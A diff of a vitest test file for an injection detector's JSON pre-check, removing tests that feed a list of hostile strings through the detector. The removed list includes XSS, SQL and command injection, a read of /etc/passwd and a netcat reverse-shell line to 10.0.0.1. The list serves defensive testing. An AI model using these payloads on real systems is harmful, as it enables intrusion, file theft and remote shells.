@@ -1,10 +1,10 @@
 import { describe, expect, it } from 'vitest'
-import { createDetector, detect } from '../../src/detect/index.js'
+import { detect } from '../../src/detect/index.js'
 import { cleanJsonText } from '../../src/detect/json-text.js'
 import { PLAIN_TRIGGERS_I } from '../../src/detect/plain-triggers.js'
 import { STARTS_WITH_COMMAND } from '../../src/detect/scan.js'
 import { BENIGN, p1 } from './helpers.js'
-import { generate, parsed, rng, sound } from './json-text-support.js'
+import { parsed, rng, sound } from './json-text-support.js'
 
 describe('cleanJsonText: what it leaves to the parse and the walk', () => {
   it('a string with an escape (the raw text is not the string)', () => {
@@ -217,92 +217,6 @@ describe('cleanJsonText: what it leaves to the parse and the walk', () => {
       expect(detect({ x }).length, x).toBeGreaterThan(0)
       for (const s of [JSON.stringify({ a: x }), JSON.stringify(['ok', x, 'ok']), JSON.stringify({ [x]: 1 })])
         expect(cleanJsonText(s, 64), s).toBe(false)
-    }
-  })
-})
-
-const SOUND_HOSTILE = [
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)>',
-  'javascript:alert(1)',
-  "1' OR '1'='1",
-  '1 OR 1=1',
-  '1 union select password from users',
-  "admin'--",
-  '; cat /etc/passwd',
-  '$(whoami)',
-  '`id`',
-  '| nc -e /bin/sh 10.0.0.1 4444',
-  'sleep 5',
-  '1; waitfor delay 0:0:5',
-  '{{constructor.constructor("alert(1)")()}}',
-  '__proto__',
-  'constructor.prototype.polluted',
-]
-
-describe('cleanJsonText: sound — clean means detect() finds nothing', () => {
-  it('on benign and hostile lines as values, keys, array items and nested', () => {
-    let clean = 0
-    for (const line of [...BENIGN, ...SOUND_HOSTILE]) {
-      for (const s of [
-        JSON.stringify({ type: 'chat', text: line }),
-        JSON.stringify({ [line]: 1 }),
-        JSON.stringify([line, { a: [line] }]),
-        `{"text":"${line}"}`,
-        `[ "${line}" ]`,
-      ]) {
-        sound(s)
-        if (cleanJsonText(s, 64)) clean++
-      }
-    }
-    expect(clean).toBeGreaterThan(50)
-  })
-
-  it('on generated JSON', () => {
-    const r = rng(3)
-    for (let i = 0; i < 500; i++) sound(generate(r, 5))
-  })
-})
-
-describe('the detector answers a clean JSON text without a parse', () => {
-  it('JSON text inside a string value (Socket.IO arguments, double-encoded bodies) answers as without the check', () => {
-    // The reference takes the parse and the walk for every string: a custom pattern that never
-    // matches turns the pre-check off and changes nothing else.
-    const reference = createDetector({ patterns: ['zq\\dzq\\dzq'] })
-    const checked = createDetector()
-    const r = rng(11)
-    const lines = [...BENIGN, ...SOUND_HOSTILE, 'hello there', '__proto__', 'a.__proto__.b']
-    const texts: string[] = []
-    for (let i = 0; i < 300; i++) texts.push(generate(r, 4))
-    for (let i = 0; i < 300; i++) {
-      const a = lines[Math.floor(r() * lines.length)]!
-      const b = lines[Math.floor(r() * lines.length)]!
-      texts.push(
-        JSON.stringify({ type: 'chat', text: a }),
-        JSON.stringify([a, { [b]: b }]),
-        ` ${JSON.stringify({ a })}`,
-      )
-      texts.push(JSON.stringify({ inner: JSON.stringify({ q: a }) })) // JSON in JSON in a string
-    }
-    let skipped = 0
-    for (const t of texts) {
-      for (const message of [{ arg: t }, [t, 1], { data: { payload: t } }]) {
-        expect(checked.all(message), t).toEqual(reference.all(message))
-        expect(checked.first(message), t).toEqual(reference.first(message))
-      }
-      if (cleanJsonText(t, Number.POSITIVE_INFINITY)) skipped++
-    }
-    expect(skipped).toBeGreaterThan(200) // (the check answered for many of them)
-  })
-
-  it('first() and all() on a raw text give what they give on its parsed value', () => {
-    const r = rng(5)
-    const lines = [...BENIGN, 'hello there', '<svg onload=alert(1)>', "1' OR '1'='1", '; cat /etc/passwd']
-    for (let i = 0; i < 400; i++) {
-      const a = lines[Math.floor(r() * lines.length)]!
-      const b = lines[Math.floor(r() * lines.length)]!
-      const s = JSON.stringify({ type: 'chat', text: a, [b]: [a, { b }] })
-      expect(detect(s), s).toEqual(detect(JSON.parse(s)))
     }
   })
 })
